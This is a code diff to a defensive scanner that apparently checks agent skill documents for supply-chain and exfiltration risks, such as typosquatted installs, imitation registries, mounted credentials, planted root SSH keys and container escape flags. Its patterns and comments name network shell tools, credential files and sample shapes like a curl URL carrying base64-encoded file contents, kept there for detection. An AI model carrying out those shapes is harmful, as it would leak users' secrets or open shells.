@@ -6,8 +6,9 @@
  * table, and scan.ts calls the checks; importing either back would be a cycle.
  */
 import type { DocRule } from './doc-rules.ts'
+import { officialInstaller } from './installers.ts'
 import type { Unit } from './normalize.ts'
-import { installedNames, oneEditApart } from './typosquat.ts'
+import { installedNames, NearNameIndex } from './typosquat.ts'
 
 // ─── a package installed under a name one letter from the module the document imports ─────────────
 
@@ -58,6 +59,7 @@ export function installsNearImports(units: readonly Unit[], body: string): NearI
   if (!/\binstall\b|\badd\b|\bnpx\b/.test(body) || !/\bimport\b|\brequire\(/.test(body)) return []
   const imported = importedModules(body)
   if (!imported.size) return []
+  let index: NearNameIndex | undefined
   const out: NearInstall[] = []
   const seen = new Set<string>()
   for (const u of units) {
@@ -66,23 +68,34 @@ export function installsNearImports(units: readonly Unit[], body: string): NearI
     for (const raw of installedNames(u.text)) {
       const name = norm(raw.replace(/\[.{0,40}\]$/, ''))
       if (name.length < MIN_NAME || imported.has(name) || seen.has(name)) continue
-      for (const mod of imported) {
-        if (mod.length < MIN_NAME || REAL_NEAR_PAIRS.has(`${name} ${mod}`)) continue
-        if (oneEditApart(name, mod) && name.replace(/-/g, '') !== mod.replace(/-/g, '')) {
-          seen.add(name)
-          out.push({ line: u.line, installed: raw, imported: mod })
-          break
-        }
+      index ??= new NearNameIndex(imported, MIN_NAME)
+      const mod = index.firstNear(name, (m) => nearImportCounts(name, m))
+      if (mod !== undefined) {
+        seen.add(name)
+        out.push({ line: u.line, installed: raw, imported: mod })
       }
     }
   }
   return out
 }
 
+/** An install `name` one edit from the import `mod` counts unless the pair is a real one or differs only by a separator. */
+export function nearImportCounts(name: string, mod: string): boolean {
+  return !REAL_NEAR_PAIRS.has(`${name} ${mod}`) && name.replace(/-/g, '') !== mod.replace(/-/g, '')
+}
+
 // ─── a package source moved to a host that imitates a registry, or trusted without TLS ─────────────
 
 /** Where a package manager is told to fetch from: an index, a registry, a proxy, a gem source, a channel. */
-const SOURCE_SETTING = /(?:--(?:extra-|)index-url|\b(?:global\.|install\.|)(?:extra-|)index-url|\bPIP_(?:EXTRA_|)INDEX_URL|\bUV_(?:EXTRA_|DEFAULT_|)INDEX(?:_URL|)|\bindex_url|--registry|\bnpm_config_registry|\bNPM_CONFIG_REGISTRY|\bnpmRegistryServer|(?:^|[\s"'@:/])registry|\bGOPROXY|\bgem\s{1,3}sources\s{1,3}(?:-a|--add)|^\s{0,8}source|\bbundle\s{1,3}config\s{1,3}(?:set\s{1,3}|)mirror\.[\w.:/-]{1,80}|\bregistry-mirrors|\bchannels?\b|\s-c)["']?[\s=:\[]{1,4}["']?(?:direct,|)https?:\/\/(?:[^\s/@"']{1,100}@|)([\w.-]{1,200})/gim
+const SOURCE_SETTING = /(?:--(?:extra-|)index-url|\b(?:global\.|install\.|)(?:extra-|)index-url|\bPIP_(?:EXTRA_|)INDEX_URL|\bUV_(?:EXTRA_|DEFAULT_|)INDEX(?:_URL|)|\bindex_url|--registry|\bnpm_config_registry|\bNPM_CONFIG_REGISTRY|\bnpmRegistryServer|(?:^|[\s"'@:/])registry|\bGOPROXY|\bgem\s{1,3}sources\s{1,3}(?:-a|--add)|^\s{0,8}source|\bbundle\s{1,3}config\s{1,3}(?:set\s{1,3}|)mirror\.[\w.:/-]{1,80}|\bregistry-mirrors|\bchannels?\b|\s-c)["']?[\s=:\[]{1,4}["']?(?:direct,|sparse\+|git\+|)https?:\/\/(?:[^\s/@"']{1,100}@|)([\w.-]{1,200})|\bsource\s{0,3}=\s{0,3}"([\w-]{1,63}\.[\w.-]{1,200})\/[\w-]{1,64}\/[\w-]{1,64}"/gim
+
+const CONDA_LINE = /\b(?:conda|mamba|micromamba|pixi)\b/
+/** The line of `text` around index `at`. */
+function lineAround(text: string, at: number): string {
+  const start = text.lastIndexOf('\n', at) + 1
+  const end = text.indexOf('\n', at)
+  return text.slice(start, end < 0 ? text.length : end)
+}
 
 /** Registries and the public mirrors people set on purpose, by registrable domain (the name someone bought). */
 const KNOWN_SOURCE_DOMAINS = new Set([
@@ -91,7 +104,7 @@ const KNOWN_SOURCE_DOMAINS = new Set([
   'tsinghua.edu.cn', 'ustc.edu.cn', 'sjtu.edu.cn', 'sjtug.org', 'bfsu.edu.cn', 'nju.edu.cn', 'zju.edu.cn', 'hust.edu.cn', 'aliyun.com', 'aliyuncs.com', 'tencent.com', 'tencentyun.com',
   'huaweicloud.com', 'myhuaweicloud.com', 'douban.com', 'doubanio.com', 'npmmirror.com', 'taobao.org', '163.com', 'baidu.com', 'volces.com', 'github.com', 'github.io',
   'githubusercontent.com', 'gitlab.com', 'jfrog.io', 'azure.com', 'visualstudio.com', 'amazonaws.com', 'cloudsmith.io', 'fury.io', 'gemfury.com', 'docker.io', 'docker.com',
-  'vllm.ai', 'flashinfer.ai', 'huggingface.co', 'conda-forge.org', 'prefix.dev', 'jsdelivr.net', 'unpkg.com',
+  'vllm.ai', 'flashinfer.ai', 'huggingface.co', 'terraform.io', 'hashicorp.com', 'opentofu.org', 'conda-forge.org', 'prefix.dev', 'jsdelivr.net', 'unpkg.com',
 ])
 /**
  * Names of registries and well-known mirrors. In any label of a host whose registrable domain is none of
@@ -99,7 +112,7 @@ const KNOWN_SOURCE_DOMAINS = new Set([
  * The generic words (pypi, npm) count only in the registrable label itself: `pypi.mycorp.com` is a
  * company's own mirror, `pypi-mirror.org` claims to be PyPI's.
  */
-const BRANDS = /npmjs|pythonhosted|yarnpkg|rubygems|golang|packagist|nuget|anaconda|pytorch|tsinghua|aliyun|ustc|douban|huaweicloud|npmmirror|taobao|tencent|crates|rustup|rsproxy|conda-forge|jfrog/
+const BRANDS = /npmjs|pythonhosted|yarnpkg|rubygems|golang|packagist|nuget|anaconda|pytorch|tsinghua|aliyun|ustc|douban|huaweicloud|npmmirror|taobao|tencent|crates|rustup|rsproxy|conda-forge|jfrog|terraform|hashicorp|opentofu/
 const GENERIC_BRANDS = /pypi|npm|pip|gems|goproxy|cargo|maven/
 /** Trust lowered for a source: TLS not checked, a host trusted as is, the checksum database off. */
 const TRUST_OFF = /--trusted-host|\btrusted-host|\btrusted_host|\bstrict-ssl\s{0,3}(?:=|\s)\s{0,3}false|\bstrictSsl\b[^\n]{0,6}false|--insecure\b|\bGOINSECURE\b|\bGONOSUMDB\b|\bGONOSUMCHECK\b|\bGOSUMDB\s{0,2}=\s{0,2}["']?off|\bGOFLAGS\s{0,2}=[^\n]{0,40}-insecure|\bssl_verify\s{0,3}[:=]\s{0,3}false|\bsslverify\s{0,3}=\s{0,3}(?:false|0)|\bcert\s{0,3}=\s{0,3}false|--no-verify-ssl\b|\bverify_ssl\s{0,3}[:=]\s{0,3}false|NODE_TLS_REJECT_UNAUTHORIZED\s{0,2}=\s{0,2}["']?0/i
@@ -114,10 +127,24 @@ export function registrableDomain(host: string): string {
   return labels.slice(-2).join('.')
 }
 
+/**
+ * Domains where anyone can get a host of their own (pages, buckets, app hosting): the tenant's label, not
+ * the provider's domain, is the name someone chose (red-team: `npmjs-registry.github.io` passed as github.io).
+ */
+const SHARED_HOSTING = /(?:^|\.)(?:github\.io|gitlab\.io|s3(?:[.-][\w-]{1,30}|)\.amazonaws\.com|s3-website[.-][\w-]{1,30}\.amazonaws\.com|cloudfront\.net|pages\.dev|workers\.dev|netlify\.app|vercel\.app|herokuapp\.com|web\.app|firebaseapp\.com|azurewebsites\.net|blob\.core\.windows\.net|storage\.googleapis\.com|appspot\.com|onrender\.com|fly\.dev|glitch\.me|repl\.co|ngrok\.io|ngrok-free\.app|trycloudflare\.com|surge\.sh|jfrog\.io|cloudsmith\.io)$/
+
+/** The tenant part of a shared-hosting host (`npmjs-registry` of `npmjs-registry.github.io`), or undefined. */
+function tenantOf(h: string): string | undefined {
+  const m = SHARED_HOSTING.exec(h)
+  return m && m.index > 0 ? h.slice(0, m.index) : undefined
+}
+
 /** `host` is dressed as a registry or a known mirror that it is not. */
 export function imitatesRegistry(host: string): boolean {
   const h = host.toLowerCase()
   if (NOT_PUBLIC.test(h)) return false
+  const tenant = tenantOf(h)
+  if (tenant !== undefined) return BRANDS.test(tenant) || GENERIC_BRANDS.test(tenant.split('.').pop()!)
   const domain = registrableDomain(h)
   if (KNOWN_SOURCE_DOMAINS.has(domain)) return false
   if (BRANDS.test(h)) return true
@@ -126,13 +153,19 @@ export function imitatesRegistry(host: string): boolean {
 }
 
 /** What is wrong with each package source a unit sets: dressed as a registry, or on a public host with trust lowered. */
-export function foreignSources(unit: string): { host: string; why: 'imitates' | 'trust-off' }[] {
-  const out: { host: string; why: 'imitates' | 'trust-off' }[] = []
+export function foreignSources(unit: string): { host: string; why: 'imitates' | 'trust-off' | 'unknown' }[] {
+  const out: { host: string; why: 'imitates' | 'trust-off' | 'unknown' }[] = []
   SOURCE_SETTING.lastIndex = 0
   for (const m of unit.matchAll(SOURCE_SETTING)) {
-    const host = m[1]!.toLowerCase().replace(/\.$/, '')
+    const host = (m[1] ?? m[2])!.toLowerCase().replace(/\.$/, '')
     if (imitatesRegistry(host)) out.push({ host, why: 'imitates' })
-    else if (!NOT_PUBLIC.test(host) && !KNOWN_SOURCE_DOMAINS.has(registrableDomain(host)) && TRUST_OFF.test(unit)) out.push({ host, why: 'trust-off' })
+    else if (!NOT_PUBLIC.test(host) && !KNOWN_SOURCE_DOMAINS.has(registrableDomain(host))) {
+      if (TRUST_OFF.test(unit)) out.push({ host, why: 'trust-off' })
+      // Session 7: any other public host is no registry this guard knows: every later install comes from
+      // it, so it is withheld (a company index is a person's call). `-c` is a channel only for conda and
+      // its kin (`wget -c URL` resumes a download).
+      else if (!/^\s-c\b/.test(m[0]) || CONDA_LINE.test(lineAround(unit, m.index))) out.push({ host, why: 'unknown' })
+    }
   }
   return out
 }
@@ -150,6 +183,17 @@ function onlyVendorImages(block: string): boolean {
   return images.length > 0 && images.every((i) => VENDOR_IMAGE.test(i))
 }
 
+/**
+ * A vendor image's own job reads its mounted credentials where its tool looks for them; a command,
+ * argument or script in the block that names a credential folder itself copies or sends it (`s3 sync
+ * /root/.aws s3://…`; red-team of session 6). The volume entries themselves are not counted.
+ */
+function namesMountedCredentials(block: string): boolean {
+  return block.split('\n').some((l) => !CRED_MOUNT_LINE.test(l) && CRED_NAMED.test(l))
+}
+const CRED_MOUNT_LINE = /^[ \t]{0,12}(?:-[ \t]{1,3}["']?[^\s"':]{1,200}:|(?:-[ \t]{1,3}|)(?:path|source|target|mountPath|hostPath|volumes):)/
+const CRED_NAMED = /[\\/]\.(?:aws|ssh|kube|gnupg|docker|config[\\/]gcloud|azure|netrc|npmrc|git-credentials|pypirc)\b|\bcredentials\b|\bid_(?:rsa|ed25519|ecdsa)\b/
+
 // ─── a key appended from a placeholder, in a document that carries no key ─────────────
 
 /** Public key material, or a place to fetch a key from. */
@@ -163,12 +207,31 @@ const KEY_PLACEHOLDER = /["']<[^<>"'\n]{1,60}>["']|\$\{?(?:PUBKEY|PUB_KEY|PUBLIC
  * An attacker needs their own key in the text (or a URL to it) to plant it, and either keeps the finding.
  */
 export function placeholderKeyOnly(line: string): boolean {
-  return KEY_PLACEHOLDER.test(line)
+  return KEY_PLACEHOLDER.test(line) && !ROOT_KEYS.test(line)
 }
+/** root's own authorized_keys: a key there is a root login, whoever's key it is (red-team: kept). */
+const ROOT_KEYS = /(?:\/root|~root)\/\.ssh\/authorized_keys|\bsudo\b[^\n|]{0,80}\btee\b[^\n]{0,40}\/root\//
 
-/** The document-wide half of placeholderKeyOnly: no address to fetch a key from and no key material anywhere (read once per document). */
+/**
+ * Anywhere a key could come from other than the user (red-team of session 6): a download or copy tool, a
+ * URL, a host name with a public suffix or an IP address, a DNS lookup (a TXT record carries a key), a
+ * raw socket, or a public-key file shipped beside the skill (`assets/ops.pub`; the user's own
+ * `~/.ssh/id_*.pub` is theirs).
+ */
+const KEY_ELSEWHERE = new RegExp(
+  [
+    /\bcurl\b|\bwget\b|https?:\/\/|\bscp\b|\brsync\b|\bssh-copy-id\b[^\n]{0,80}-i\s|\b(?:Invoke-WebRequest|Invoke-RestMethod|iwr|irm|fetch|urlopen|requests\.get|httpx\.get)\b/.source,
+    /\b(?:dig|nslookup|drill|kdig|Resolve-DnsName)\b|\bhost\s{1,3}-t\b|\b(?:nc|ncat|netcat|socat|telnet)\s|\/dev\/(?:tcp|udp)\//.source,
+    /\b\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}\b/.source,
+    /\b[a-z0-9][a-z0-9.-]{0,200}\.(?:com|net|org|io|dev|xyz|cn|ru|co|me|ai|cloud|site|top|info|biz|us|uk|de|fr|jp|cc|tv|ws|link|online|store|tech|space|host|page|live|zone|icu|club|vip|pro|eu|su|tk|pw|onion)\b(?![\w-]{0,3}\.(?:md|txt|json|ya?ml|pub)\b)/.source,
+    /(?<![~\w])(?:\.{1,2}\/|\$\{?(?:SKILL_DIR|SCRIPT_DIR|DIR|CLAUDE_SKILL_DIR)\}?\/|\b(?:assets|keys|files|resources|data|config|scripts)\/)[\w./-]{0,80}\.pub\b|\b(?!id_)[\w-]{1,40}\.pub\b/.source,
+  ].join('|'),
+  'i',
+)
+
+/** The document-wide half of placeholderKeyOnly: nowhere else a key could come from, and no key material anywhere (read once per document). */
 export function carriesNoKey(body: string): boolean {
-  return !/\bcurl\b|\bwget\b|https?:\/\/|\bscp\b|\bssh-copy-id\b[^\n]{0,80}-i\s/.test(body) && !KEY_MATERIAL.test(body)
+  return !KEY_ELSEWHERE.test(body) && !KEY_MATERIAL.test(body)
 }
 
 // ─── a permission wildcard named in prose, not written into a settings file ─────────────
@@ -176,6 +239,11 @@ export function carriesNoKey(body: string): boolean {
 /** A sentence that opens with an order to put something somewhere (EN, ZH), after a list marker or bold. */
 const CONFIG_ORDER = /^\s{0,3}(?:[-*+]\s{1,3}|\d{1,2}[.)]\s{1,3}|)(?:\*{1,2}|)(?:please\s{1,3}|now\s{1,3}|then\s{1,3}|first\s{1,3}|next\s{1,3}|always\s{1,3}|just\s{1,3}|)(?:add|set|put|write|insert|append|prepend|use|enable|configure|change|update|edit|grant|allow|apply|turn on|switch|merge|paste|copy|replace|include|run|start|launch)\b|^\s{0,3}(?:[-*+]\s{1,3}|\d{1,2}[.)]\s{1,3}|)(?:\*{1,2}|)(?:请|先|然后|再|直接|)(?:(?:在|到|往|向|把|将)[^，。；`\n]{1,16}|)(?:添加|设置|设为|改为|写入|加入|配置|开启|启用|使用|合并|粘贴|替换|运行|执行)/i
 const SPAN = /`[^`\n]{1,200}`/g
+/**
+ * The same order later in the sentence (red-team: CONFIG_ORDER only read the line's start): after a clause
+ * ("To save time, add …"), after "you should / need to / can", or after please / then / just / and (EN, ZH).
+ */
+const ORDER_IN_SENTENCE = /(?:[,;:—–]\s{0,3}|\b(?:please|then|just|and|so|now|simply|you(?:'ll| will| should| must| need to| can| may| have to)|we(?:'ll| will| should| need to))\s{1,3})(?:also\s{1,3}|first\s{1,3}|always\s{1,3}|)(?:add|set|put|write|insert|append|prepend|enable|configure|grant|allow|apply|turn on|switch|merge|paste|copy|include)\b|[，；：]\s{0,2}(?:请|先|然后|再|直接|)(?:(?:在|到|往|向|把|将)[^，。；`\n]{1,16}|)(?:添加|设置|设为|改为|写入|加入|配置|开启|启用|合并|粘贴)|(?:请|然后|再|直接)(?:(?:在|到|往|向|把|将)[^，。；`\n]{1,16}|)(?:添加|设置|设为|改为|写入|加入|配置|开启|启用|合并|粘贴)/i
 
 /**
  * A prose line that names an agent-permission wildcard only inside code spans and does not open with an
@@ -183,7 +251,7 @@ const SPAN = /`[^`\n]{1,200}`/g
  * that orders it ("Add `"Bash(*)"` to allow"), a code block, or a settings file keeps the finding.
  */
 export function wildcardNamedOnly(line: string, pattern: RegExp): boolean {
-  if (CONFIG_ORDER.test(line)) return false
+  if (CONFIG_ORDER.test(line) || ORDER_IN_SENTENCE.test(line.replace(SPAN, ' '))) return false
   const rest = line.replace(SPAN, ' ')
   if (pattern.test(rest)) return false
   return [...line.matchAll(SPAN)].some((m) => pattern.test(m[0]))
@@ -202,6 +270,34 @@ export function identityTaggedHosts(unit: string): string[] {
     const host = m[1]!.toLowerCase()
     // The address itself, with its `$( … )` substitutions whole (they may hold quotes and spaces), not a body after it.
     if (!IDENTITY.test(urlToken(unit, m.index)) || NOT_PUBLIC.test(host) || OWN_PLACES.has(registrableDomain(host))) continue
+    out.push(host)
+  }
+  return out
+}
+
+/** Code hosts a remote may point at (the user's own accounts live there), beside OWN_PLACES. */
+const CODE_HOSTS = new Set([...OWN_PLACES, 'gitee.com', 'coding.net', 'gitea.com', 'gitea.io', 'sourceforge.net', 'launchpad.net', 'savannah.gnu.org', 'kernel.org', 'sourcehut.org', 'codecommit.amazonaws.com', 'dev.azure.com', 'jihulab.com', 'gitcode.com', 'gitcode.net', 'framagit.org', 'salsa.debian.org', 'gnome.org', 'freedesktop.org', 'heroku.com', 'cloudflare.com'])
+
+const PUSH_REMOTE = /\bgit\s{1,3}remote\s{1,3}(?:add|set-url)\s{1,3}(?:--push\s{1,3}|)[\w.-]{1,40}\s{1,3}["']?(?:(?:https?|ssh):\/\/(?:[^\s/@"']{1,100}@|)([\w.-]{1,200})|git@([\w.-]{1,200}):)/g
+/** Public hosts of the remotes a unit adds that are not code hosts (`git remote add x https://h/…`, `git@h:…`). */
+export function pushRemoteHosts(unit: string): string[] {
+  const out = new Set<string>()
+  for (const m of unit.matchAll(PUSH_REMOTE)) {
+    const host = (m[1] ?? m[2])!.toLowerCase().replace(/\.$/, '')
+    if (NOT_PUBLIC.test(host) || CODE_HOSTS.has(registrableDomain(host)) || CODE_HOSTS.has(host)) continue
+    out.add(host)
+  }
+  return [...out]
+}
+
+/** Host names a guide writes for "some host" (`unknown.host`, `evil.com`, a one- or two-letter `x.io`): no one's address a skill would name. */
+const STANDIN_HOST = /(?:^|[.-])(?:unknown|evil|attacker|malicious|bad|untrusted|random|sketchy|shady|hacker|malware|pwned|your|yourdomain|yoursite|mydomain|foo|bar|baz|domain)(?:[.-]|$)|\.host$|^(?:[\w-]{1,63}\.|)[a-z0-9]{1,2}\.[a-z]{2,6}$/
+/** Public hosts of the URLs on `line` that are no stand-in (example.com, a private name) and no official installer's (installers.ts). */
+export function unvouchedHosts(line: string): string[] {
+  const out: string[] = []
+  for (const m of line.matchAll(/\bhttps?:\/\/(?:[^\s/@"']{1,100}@|)([\w.-]{1,200})[^\s"'`|)]{0,300}/g)) {
+    const host = m[1]!.toLowerCase().replace(/\.$/, '')
+    if (NOT_PUBLIC.test(host) || STANDIN_HOST.test(host) || officialInstaller(m[0]) !== undefined) continue
     out.push(host)
   }
   return out
@@ -251,9 +347,22 @@ export function mcpRootToUnknown(block: string): string | undefined {
 /** Containers the document itself creates: `docker run --name X`, compose `services:` keys. */
 export function createdContainers(body: string): Set<string> {
   const out = new Set<string>()
-  for (const m of body.matchAll(/\b(?:docker|podman|nerdctl)\s{1,3}(?:container\s{1,3}|)(?:run|create)\b[^\n]{0,200}--name[\s=]{1,3}["']?([\w.-]{1,63})/g)) out.add(m[1]!.toLowerCase())
+  // A container that reaches the host or the network (privileged, the host's pid or network namespace, a
+  // host path or the docker socket mounted, a published port, an added capability or device) is no lab:
+  // a shell inside it is a shell on the machine, or one the world can reach (red-team of session 6).
+  if (LAB_ESCAPE_DOC.test(body)) return out
+  for (const m of body.matchAll(/\b(?:docker|podman|nerdctl)\s{1,3}(?:container\s{1,3}|)(?:run|create)\b[^\n]{0,200}--name[\s=]{1,3}["']?([\w.-]{1,63})/g)) {
+    const at = m.index
+    const end = body.indexOf('\n', at)
+    if (LAB_ESCAPE_RUN.test(body.slice(at, end < 0 ? body.length : end))) continue
+    out.add(m[1]!.toLowerCase())
+  }
   return out
 }
+/** Anywhere in the document: a way out of a container's isolation, in a run flag or a compose key. */
+const LAB_ESCAPE_DOC = /--privileged\b|--(?:pid|net|network|ipc|uts|userns)[\s=]{1,3}["']?host\b|\bprivileged:\s{0,3}true\b|\b(?:pid|ipc|network_mode|userns_mode):\s{0,3}["']?host\b|\/var\/run\/docker\.sock|\/run\/docker\.sock|--cap-add[\s=]|\bcap_add:|--device[\s=]|\bdevices:/
+/** On the run line itself: a host path mounted (`-v /etc:/x`, `-v ~/.ssh:…`, `--mount type=bind`) or a port published. */
+const LAB_ESCAPE_RUN = /\s(?:-v|--volume)[\s=]{1,3}["']?(?:\/|~|\$|\.{1,2}\/|[A-Za-z]:\\)|--mount[\s=][^\n]{0,80}\btype=bind\b|\s(?:-p|--publish)[\s=]{1,3}["']?\d|\s-P\b|--publish-all\b/
 
 /**
  * A reverse shell on a line that runs inside a container the document created (`docker exec victim bash -c
@@ -279,18 +388,126 @@ function lineOf(m: string, unit: string): string {
   return unit.slice(start, end < 0 ? unit.length : end)
 }
 
+/** The first occurrence of `m` in `unit` sits inside a quotation (“…”, 「…」, "…") opened earlier on its line. */
+function inQuotes(m: string, unit: string): boolean {
+  const at = unit.indexOf(m)
+  if (at < 0) return false
+  const head = unit.slice(unit.lastIndexOf('\n', at) + 1, at)
+  const count = (c: string) => head.split(c).length - 1
+  return count('\u201c') > count('\u201d') || count('\u300c') > count('\u300d') || count('"') % 2 === 1
+}
+
 /**
  * The match is looked for, not done: it sits in the pattern of a search command on its line (`grep -E
  * "PermitRootLogin yes"`, `rg`, `Select-String`, `findstr`), or a negation governs it ("never run `…`",
  * 不要执行). Structure of the command line, or the grammar of the sentence, as for the line rules.
  */
 export function notDone(m: string, unit: string): boolean {
-  const line = lineOf(m, unit)
-  const at = line.indexOf(m)
+  return notDoneAt(m, unit, unit.indexOf(m))
+}
+/** notDone for the occurrence of `m` at `pos` in `unit`. */
+function notDoneAt(m: string, unit: string, pos: number): boolean {
+  let line = m
+  let at = 0
+  if (pos >= 0) {
+    const start = unit.lastIndexOf('\n', pos) + 1
+    const end = unit.indexOf('\n', pos + m.length)
+    line = unit.slice(start, end < 0 ? unit.length : end)
+    at = pos - start
+  }
   const head = at < 0 ? '' : line.slice(0, at)
   if (/\b(?:grep|egrep|fgrep|rg|ag|ack|findstr|Select-String|awk)\b[^|;&]{0,120}["'`/]\s{0,2}[\^(]{0,3}$|\b(?:grep|egrep|fgrep|rg)\b[^|;&]{0,60}-[a-zA-Z]{0,4}e\s{1,3}["']?$/.test(head)) return true
   return /\b(?:never|not|don'?t|avoid|must not|should not)\b[^.!?\n]{0,40}$|(?:不要|切勿|禁止|不得|避免|别)[^。！？\n]{0,20}$/i.test(head.replace(/`[^`]{0,200}$/, ''))
 }
+
+// ─── data encoded into a request's address ─────────────
+
+/**
+ * Where each public URL of `line` starts its host's second label (`h`, after `https://label.`) and how many
+ * host characters follow (`run`, at most 200). The old single patterns put two overlapping gaps and a third
+ * after the host (`[\w.-]{2,200}[^\s"']{0,200}\$\(…`) and backtracked through all their splits (red-team
+ * r18: a 20 KB line of `$(|` took ~0.5 s); the two checks below read the same shapes from these positions.
+ */
+const URL_HEAD = /https?:\/\/(?!localhost\b|127\.)[\w-]{1,63}\.([\w.-]{2,200})/g
+const ENCODER_PIPE = /\|\s{0,3}(?:base64|xxd|od|basenc)\b/g
+const QUOTE_PLUS_ENCODER = /["'`]\s{0,2}\+\s{0,2}(?:base64\.(?:urlsafe_|)b64encode|btoa|Buffer\.from|binascii\.hexlify|\w{1,20}\.hex\(\)|encodeURIComponent\(\s{0,2}btoa)/y
+/** Characters of an address after its host that the checks look across (the old patterns' gap). */
+const URL_TAIL = 200
+
+function urlHeads(line: string): { h: number; run: number }[] {
+  const out: { h: number; run: number }[] = []
+  URL_HEAD.lastIndex = 0
+  for (const m of line.matchAll(URL_HEAD)) out.push({ h: m.index + m[0].length - m[1]!.length, run: m[1]!.length })
+  return out
+}
+
+/** The first index in [from, to) whose character is in `stop`, or -1. */
+function firstOf(line: string, from: number, to: number, stop: RegExp): number {
+  const end = Math.min(to, line.length)
+  for (let i = from; i < end; i++) if (stop.test(line[i]!)) return i
+  return -1
+}
+
+/**
+ * `"https://host/path?q=" + base64.b64encode(…)`: the string that holds the URL closes (its first quote
+ * after the host, within the host and URL_TAIL characters more) and is joined with an encoder's result.
+ */
+export function urlJoinedWithEncoder(line: string): boolean {
+  for (const { h, run } of urlHeads(line)) {
+    // Each head reads at most its host and URL_TAIL characters: many heads on one line stay linear.
+    const q = firstOf(line, h, h + run + URL_TAIL + 1, /["'`\n]/)
+    if (q < 0 || line[q] === '\n') continue
+    QUOTE_PLUS_ENCODER.lastIndex = q
+    if (QUOTE_PLUS_ENCODER.test(line)) return true
+  }
+  return false
+}
+
+/**
+ * `curl "https://host/p?d=$(cat f | base64)"`: a `$(` in the address (no space or quote between it and the
+ * host, within the host and URL_TAIL characters more) whose substitution pipes into an encoder before it
+ * closes (a `|` to base64, xxd, od or basenc within 200 characters, no `)` or line break before it).
+ */
+export function urlHoldsEncodedSubstitution(line: string): boolean {
+  const pipes: number[] = []
+  ENCODER_PIPE.lastIndex = 0
+  for (const m of line.matchAll(ENCODER_PIPE)) pipes.push(m.index)
+  if (!pipes.length) return false
+  // Each `$(` whose substitution reaches an encoder pipe, in order: one pass, every pointer only moves on.
+  const opens: number[] = []
+  let p = 0
+  let close = -1
+  for (let d = line.indexOf('$('); d >= 0; d = line.indexOf('$(', d + 1)) {
+    const q = d + 2
+    while (p < pipes.length && pipes[p]! < q + 1) p++
+    if (p === pipes.length) break
+    // The first `)` or line break at or after q (kept while q has not passed it).
+    if (close < q) {
+      const c = firstOf(line, q, line.length, /[)\n]/)
+      close = c < 0 ? Infinity : c
+    }
+    const r = pipes[p]!
+    if (r <= q + 200 && r < close) opens.push(d)
+  }
+  if (!opens.length) return false
+  for (const { h, run } of urlHeads(line)) {
+    const stop = firstOf(line, h, h + run + URL_TAIL, /[\s"']/)
+    const hi = stop < 0 ? h + run + URL_TAIL : stop
+    // The first open at or after h + 2 (a binary search), if it is not past hi.
+    let lo = 0
+    let top = opens.length
+    while (lo < top) {
+      const mid = (lo + top) >> 1
+      if (opens[mid]! < h + 2) lo = mid + 1
+      else top = mid
+    }
+    if (lo < opens.length && opens[lo]! <= hi) return true
+  }
+  return false
+}
+
+/** The patterns the checks above use outside any rule: regex-safety.test.ts holds them to the same static check. */
+export const SESSION6_HELPER_PATTERNS: readonly RegExp[] = [STANDIN_HOST, CONDA_LINE, PUSH_REMOTE, KEY_ELSEWHERE, ROOT_KEYS, ORDER_IN_SENTENCE, LAB_ESCAPE_DOC, LAB_ESCAPE_RUN, SHARED_HOSTING, CRED_MOUNT_LINE, CRED_NAMED, URL_HEAD, ENCODER_PIPE, QUOTE_PLUS_ENCODER]
 
 export const SESSION6_DOC_RULES: readonly DocRule[] = [
   {
@@ -308,10 +525,10 @@ export const SESSION6_DOC_RULES: readonly DocRule[] = [
     units: ['command', 'block', 'decoded', 'sentence', 'table-row'],
     // Every install after this line comes from that host: it can serve any package it likes.
     // Each keyword with an address right after it (the prefilter then needs both strings).
-    pattern: /(?:index-url|INDEX_URL|\bindex_url|UV_(?:EXTRA_|DEFAULT_|)INDEX|registry|\bGOPROXY|\bgem\s{1,3}sources\s{1,3}(?:-a|--add)|^\s{0,8}source|\bmirror\.[\w.:/-]{1,80}|\bregistry-mirrors|\s-c)["']?[\s=:\[]{1,4}["']?(?:direct,|)https?:\/\//im,
+    pattern: /(?:index-url|INDEX_URL|\bindex_url|UV_(?:EXTRA_|DEFAULT_|)INDEX|registry|\bGOPROXY|\bgem\s{1,3}sources\s{1,3}(?:-a|--add)|^\s{0,8}source|\bmirror\.[\w.:/-]{1,80}|\bregistry-mirrors|\s-c)["']?[\s=:\[]{1,4}["']?(?:direct,|sparse\+|git\+|)https?:\/\/|\bsource\s{0,3}=\s{0,3}"[\w-]{1,63}\.[\w.-]{1,200}\/[\w-]{1,64}\/[\w-]{1,64}"/im,
     detail: (_m, unit) => {
       const bad = foreignSources(unit)
-      return bad.length ? bad.map((b) => (b.why === 'imitates' ? `"${b.host}" is dressed as a registry or mirror it is not` : `"${b.host}" is trusted without TLS checks`)).join(', ') : undefined
+      return bad.length ? bad.map((b) => (b.why === 'imitates' ? `"${b.host}" is dressed as a registry or mirror it is not` : b.why === 'trust-off' ? `"${b.host}" is trusted without TLS checks` : `"${b.host}" is no registry or public mirror this guard knows`)).join(', ') : undefined
     },
     // A public host that is not a known registry, trusted with TLS checks off: withheld, not refused (a
     // company's own index with a self-signed certificate looks the same).
@@ -328,7 +545,7 @@ export const SESSION6_DOC_RULES: readonly DocRule[] = [
     pattern: CRED_MOUNT,
     requires: /^[ \t]{0,12}(?:-[ \t]{1,3}|)image:|\bvolumes:|\bhostPath:/m,
     // Critical when the same block names a public address to send to: the container has the keys and a place to put them.
-    confirm: (_m, block) => (onlyVendorImages(block) ? false : /\bhttps?:\/\/(?!localhost\b|127\.|0\.0\.0\.0|host\.docker\.internal|[\w-]{1,63}[:/"'\s]|[\w-]{1,63}$)[\w.-]{1,200}\.[a-z]{2,24}\b/im.test(block) ? 'critical' : true),
+    confirm: (_m, block) => (onlyVendorImages(block) && !namesMountedCredentials(block) ? false : /\bhttps?:\/\/(?!localhost\b|127\.|0\.0\.0\.0|host\.docker\.internal|[\w-]{1,63}[:/"'\s]|[\w-]{1,63}$)[\w.-]{1,200}\.[a-z]{2,24}\b/im.test(block) ? 'critical' : true),
     reason: "mounts the user's cloud, SSH or cluster credentials into a third-party container from a compose file or pod spec: the container can read them (critical when the same file gives it a public address to send to)",
   },
   {
@@ -355,7 +572,12 @@ export const SESSION6_DOC_RULES: readonly DocRule[] = [
     // The user's confirmation is what makes a destructive step acceptable; a skill that says not to ask
     // for it is the tell (with a destructive command in the same file it is critical, scan.ts).
     // Addressed to whoever would ask (向/跟/与 the user, or 再 "again"): "`-y` 无需用户确认" describes a flag.
